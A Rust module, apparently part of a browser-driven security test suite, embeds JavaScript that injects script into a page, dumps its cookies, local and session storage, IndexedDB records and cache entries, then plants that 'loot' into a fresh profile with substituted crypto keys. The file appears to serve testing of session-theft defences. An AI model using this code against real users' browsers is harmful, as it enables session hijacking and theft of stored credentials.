//! What script in a page can take from it, and put into another.

use serde_json::{Value, json};

use super::Outcome;
use crate::browser::Browser;

/// Runs `body` as an async function's with `args`, like [`Browser::eval`], but as the page's own
/// script. Firefox shows a driver's script other objects than the page's: there, an array of the page
/// is none.
///
/// # Errors
///
/// Those of [`Browser::eval`].
pub async fn in_page(browser: &Browser, body: &str, args: Value) -> Outcome<Value> {
    const RUN: &str = "
        const script = document.createElement('script');
        script.textContent = `window.attack = async (json) => {
          const attack = async (args) => { ${args[0]} };
          return JSON.stringify({ value: await attack(JSON.parse(json)) });
        }`;
        document.head.append(script);
        return JSON.parse(await window.attack(JSON.stringify(args[1]))).value;";
    Ok(browser.eval(RUN, [json!(body), args]).await?)
}

/// An async function body: everything that the page's storage hands out as data, as JSON. A key of
/// `WebCrypto`'s is no data: what can be read of it is what it is for.
pub const TAKE_STORAGE: &str = r#"
const asData = (value) => {
  if (value instanceof CryptoKey) {
    const { type, algorithm, extractable, usages } = value;
    return { handle: { type, name: algorithm.name, extractable, usages } };
  }
  if (ArrayBuffer.isView(value)) value = value.buffer.slice(value.byteOffset, value.byteOffset + value.byteLength);
  if (value instanceof ArrayBuffer) return { bytes: [...new Uint8Array(value)] };
  if (Array.isArray(value)) return value.map(asData);
  if (value !== null && typeof value === "object") {
    return { object: Object.fromEntries(Object.entries(value).map(([name, member]) => [name, asData(member)])) };
  }
  return { value };
};
const done = (request) => new Promise((resolve, reject) => {
  request.onsuccess = () => resolve(request.result);
  request.onerror = () => reject(request.error);
});
const databases = [];
for (const { name, version } of await indexedDB.databases()) {
  const database = await done(indexedDB.open(name));
  const stores = [];
  for (const store of database.objectStoreNames) {
    const records = database.transaction(store).objectStore(store);
    const [keys, values] = await Promise.all([done(records.getAllKeys()), done(records.getAll())]);
    stores.push({ store, records: keys.map((key, at) => ({ key, value: asData(values[at]) })) });
  }
  database.close();
  databases.push({ name, version, stores });
}
const caches_ = [];
for (const name of await caches.keys()) {
  for (const request of await (await caches.open(name)).keys()) caches_.push(request.url);
}
return {
  local: { ...localStorage },
  session: { ...sessionStorage },
  cookie: document.cookie,
  caches: caches_,
  databases,
};
"#;

/// An async function body: puts into an empty profile what [`TAKE_STORAGE`] gave. Where a key belongs,
/// it puts one of its own of the same kind; a device key's public half is replaced by its own too if
/// the second argument says so.
pub const PLANT_STORAGE: &str = r#"
const [loot, ownPublic] = args;
const pair = await crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, false, ["sign"]);
const asKey = ({ name, usages }) => {
  if (name === "ECDSA") return pair.privateKey;
  if (name === "HMAC") return crypto.subtle.generateKey({ name, hash: "SHA-256" }, false, usages);
  return crypto.subtle.importKey("raw", crypto.getRandomValues(new Uint8Array(32)), name, false, usages);
};
const fromData = async (data) => {
  if (data.handle) return asKey(data.handle);
  if (data.bytes) return new Uint8Array(data.bytes);
  if (data.object) {
    const members = Object.entries(data.object).map(async ([name, member]) => [name, await fromData(member)]);
    return Object.fromEntries(await Promise.all(members));
  }
  return data.value;
};
const done = (request) => new Promise((resolve, reject) => {
  request.onsuccess = () => resolve(request.result);
  request.onerror = () => reject(request.error);
});
Object.assign(localStorage, loot.local);
Object.assign(sessionStorage, loot.session);
for (const { name, version, stores } of loot.databases) {
  await done(indexedDB.deleteDatabase(name));
  const opening = indexedDB.open(name, version);
  opening.onupgradeneeded = () => stores.forEach(({ store }) => opening.result.createObjectStore(store));
  const database = await done(opening);
  for (const { store, records } of stores) {
    for (const { key, value } of records) {
      const record = await fromData(value);
      if (ownPublic && key.startsWith("device ")) {
        record.public = new Uint8Array(await crypto.subtle.exportKey("raw", pair.publicKey));
      }
      await done(database.transaction(store, "readwrite").objectStore(store).put(record, key));
    }
  }
  database.close();
}
"#;
